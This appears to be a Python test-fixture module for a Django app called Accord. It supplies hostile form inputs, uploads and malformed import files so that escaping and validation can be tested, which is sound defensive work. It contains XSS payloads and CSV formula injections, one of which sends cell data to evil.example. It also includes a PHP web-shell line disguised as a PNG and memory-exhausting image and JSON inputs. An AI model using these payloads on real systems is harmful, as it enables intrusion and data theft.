"""Hostile input for Accord's text fields, uploads and import files (the security issue's corpus).

Every sample is something a careless or malicious government delegate, or a compromised account,
could type into a form. `stored()` is what the services keep (CRLF → LF, surrounding white space
stripped), so tests compare against exactly what a reader should see again.
"""

from __future__ import annotations

import io
import json
import struct
import zlib
from dataclasses import dataclass

from django.utils.html import escape

from config.text import show_controls


@dataclass(frozen=True)
class Sample:
    name: str
    text: str
    # Substrings that must never appear unescaped in an HTML page (markup that would run).
    dangerous: tuple[str, ...] = ()


SCRIPT = Sample("script tag", "<script>alert(1)</script>", ("<script>alert(1)",))
ATTRIBUTE_BREAKOUT = Sample("attribute break-out", '"><img src=x onerror=alert(1)>', ("<img src=x onerror", '"><img'))
SINGLE_QUOTE_BREAKOUT = Sample("single-quote break-out", "' onmouseover='alert(1)", ("' onmouseover='",))
JAVASCRIPT_URL = Sample(
    "javascript: URL", 'javascript:alert(document.cookie) <a href="javascript:alert(1)">x</a>', ('<a href="javascript',)
)
SVG_ONLOAD = Sample("svg onload", "<svg/onload=alert(1)>", ("<svg/onload",))
TEMPLATE_SYNTAX = Sample("Django template syntax", "{{ 7*7 }} {% debug %} {{ request.user.password }} ${7*7}")
RTL_OVERRIDE = Sample("right-to-left override", "Invoice \u202egnp.exe\u202c — مرحبا بالعالم — שלום")
BIDI_CONTROLS = Sample("bidi isolates and marks", "a\u2066b\u2067c\u2068d\u2069e\u200ff\u200eg\u202ah\u202bi\u202cj")
ZALGO = Sample(
    "combining characters (Zalgo)",
    "Z\u0335\u0327\u031b\u034e\u032d a\u0338\u0322\u0354 l\u0334\u0357\u0301 g\u0337\u0300\u0300\u0300 o\u0336\u0361\u035c",
)
EMOJI = Sample(
    "emoji with ZWJ sequences, skin tones and flags",
    "Family \U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 flags \U0001f1f0\U0001f1f7\U0001f1ea\U0001f1f8 "
    "thumbs \U0001f44d\U0001f3fd heart \u2764\ufe0f",
)
KOREAN_MIXED = Sample(
    "mixed Korean and Latin", "제1조 (Article 1) 신뢰할 수 있는 AI — trustworthy 인공지능 <b>굵게</b>", ("<b>굵게",)
)
HYPERLINK = Sample("CSV formula =HYPERLINK", '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")')
PLUS = Sample("CSV formula +", "+1+cmd|' /C calc'!A0")
MINUS = Sample("CSV formula -", "-1+1")
AT_SUM = Sample("CSV formula @", "@SUM(1+1)*cmd|' /C calc'!A0")
TAB_FORMULA = Sample("tab-prefixed formula", "\t=1+1")
CR_FORMULA = Sample("CR-prefixed formula", "\r=1+1")
MULTILINE = Sample("several lines, CRLF", "First line\r\nSecond <i>line</i>\r\n\r\nThird 셋째", ("<i>line",))

HTML_SAMPLES = [SCRIPT, ATTRIBUTE_BREAKOUT, SINGLE_QUOTE_BREAKOUT, JAVASCRIPT_URL, SVG_ONLOAD, TEMPLATE_SYNTAX]
UNICODE_SAMPLES = [RTL_OVERRIDE, BIDI_CONTROLS, ZALGO, EMOJI, KOREAN_MIXED]
FORMULA_SAMPLES = [HYPERLINK, PLUS, MINUS, AT_SUM, TAB_FORMULA, CR_FORMULA]
# Everything a text field must keep intact and show escaped (one line each, so a page shows it verbatim).
ALL = [*HTML_SAMPLES, *UNICODE_SAMPLES, *FORMULA_SAMPLES]
# What a one-line field (heading, label, printed name) accepts: no direction controls (issue 18).
DIRECTION_SAMPLES = [RTL_OVERRIDE, BIDI_CONTROLS]
SINGLE_LINE = [s for s in ALL if s not in DIRECTION_SAMPLES]
# A few representative ones for the slow paths (PDF rendering).
PDF_SAMPLES = [SCRIPT, TEMPLATE_SYNTAX, KOREAN_MIXED, ATTRIBUTE_BREAKOUT]

NUL = "Before\x00after"
ONLY_WHITESPACE = " \r\n\t "


def stored(text: str) -> str:
    """What Accord's services keep: LF line endings, no surrounding white space."""
    return text.replace("\r\n", "\n").replace("\r", "\n").strip()


def long_text(length: int) -> str:
    """`length` characters of mixed Latin and Korean, word-separated, no surrounding space."""
    unit = "Trust 신뢰 "
    text = (unit * (length // len(unit) + 1))[:length]
    return text[:-1] + "x" if text.endswith(" ") else text


def shown(html: str, text: str) -> bool:
    """The text appears escaped in the page; linebreaksbr turns its newlines into <br>. Direction
    controls show as markers (issue 18), except inside a form's textarea, which keeps the stored text."""
    editor = "<textarea" in html
    return all(
        escape(show_controls(line)) in html or (editor and escape(line) in html)
        for line in stored(text).split("\n")
        if line
    )


def dangerous_in(html: str, sample: Sample) -> list[str]:
    return [marker for marker in sample.dangerous if marker in html]


# --- Uploads ---------------------------------------------------------------------------------


def png_with_exif() -> bytes:
    """A small real PNG carrying EXIF and a text chunk that must not survive re-encoding."""
    from PIL import Image, PngImagePlugin

    image = Image.new("RGB", (240, 80), "white")
    for x in range(10, 230):
        image.putpixel((x, 40), (0, 0, 0))
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"  # Make
    exif[0x8825] = {2: (37.0, 30.0, 0.0)}  # GPS
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "secret-location-data")
    out = io.BytesIO()
    image.save(out, format="PNG", exif=exif.tobytes(), pnginfo=info)
    return out.getvalue()


def jpeg_with_exif() -> bytes:
    from PIL import Image

    image = Image.new("RGB", (240, 80), "white")
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif[0x0131] = "secret-software"
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif.tobytes(), quality=90)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def huge_dimension_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny file whose header declares 10 gigapixels: decoding it would exhaust memory."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


PHP_AS_PNG = b"<?php system($_GET['cmd']); ?>\n"
HTML_AS_PNG = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)


def truncated_jpeg() -> bytes:
    data = jpeg_with_exif()
    return data[: len(data) // 3]


def truncated_png() -> bytes:
    data = png_with_exif()
    return data[: len(data) // 2]


# --- Import files (interchange JSON) ----------------------------------------------------------


def minimal_file(**overrides: object) -> dict[str, object]:
    data: dict[str, object] = {
        "title": {"en": "Hostile import"},
        "languages": ["en", "ko"],
        "sections": [{"key": "intro", "heading": {"en": "Intro"}, "clauses": [{"key": "c1", "text": {"en": "Text"}}]}],
    }
    data.update(overrides)
    return data


def deep_nesting(depth: int = 100_000) -> bytes:
    return b'{"title": ' + b"[" * depth + b"]" * depth + b"}"


MALFORMED_IMPORTS: dict[str, bytes] = {
    "not JSON": b"title: <script>alert(1)</script>",
    "truncated JSON": b'{"title": {"en": "x"',
    "not UTF-8": b'{"title": {"en": "\xff\xfe\xfa"}}',
    "a list, not an object": b"[1, 2, 3]",
    "wrong type for languages": json.dumps(minimal_file(languages="en")).encode(),
    "number as text": json.dumps(
        minimal_file(sections=[{"key": "intro", "clauses": [{"key": "c1", "text": {"en": 42}}]}])
    ).encode(),
    "null title": json.dumps(minimal_file(title=None)).encode(),
    "deep nesting": deep_nesting(),
    "huge integer": b'{"languages": [' + b"9" * 100_000 + b"]}",
    "huge float": json.dumps(minimal_file()).encode()[:-1] + b', "format": 1e999999}',
    "NaN in provenance": json.dumps(minimal_file()).encode()[:-1]
    + b', "versions": [{"language": "en", "label": NaN}]}',
    "duplicate key in text": (
        b'{"title": {"en": "Hostile import"}, "languages": ["en"], "sections": [{"key": "intro", '
        b'"clauses": [{"key": "c1", "text": {"en": "What the reviewer saw", "en": "What gets signed"}}]}]}'
    ),
    "duplicate top-level key": (
        b'{"title": {"en": "A"}, "title": {"en": "B"}, "languages": ["en"], '
        b'"sections": [{"key": "s", "clauses": [{"key": "c", "text": {"en": "x"}}]}]}'
    ),
    "NUL in text": json.dumps(
        minimal_file(sections=[{"key": "intro", "clauses": [{"key": "c1", "text": {"en": "a\u0000b"}}]}])
    ).encode(),
    "lone surrogate in text": (
        b'{"title": {"en": "Hostile"}, "languages": ["en"], '
        b'"sections": [{"key": "s", "clauses": [{"key": "c", "text": {"en": "bad \\ud800 surrogate"}}]}]}'
    ),
    "NUL in provenance": json.dumps(minimal_file(versions=[{"language": "en", "label": "a\u0000b"}])).encode(),
    "nested object in provenance": json.dumps(
        minimal_file(versions=[{"language": "en", "label": {"x": [1]}}])
    ).encode(),
    "text over the limit": json.dumps(
        minimal_file(sections=[{"key": "intro", "clauses": [{"key": "c1", "text": {"en": "x" * 100_001}}]}])
    ).encode(),
    "script in a key": json.dumps(
        minimal_file(sections=[{"key": "<script>", "clauses": [{"key": "c1", "text": {"en": "x"}}]}])
    ).encode(),
    "unknown field": json.dumps(minimal_file(owner="<script>alert(1)</script>")).encode(),
    "empty file": b"",
}
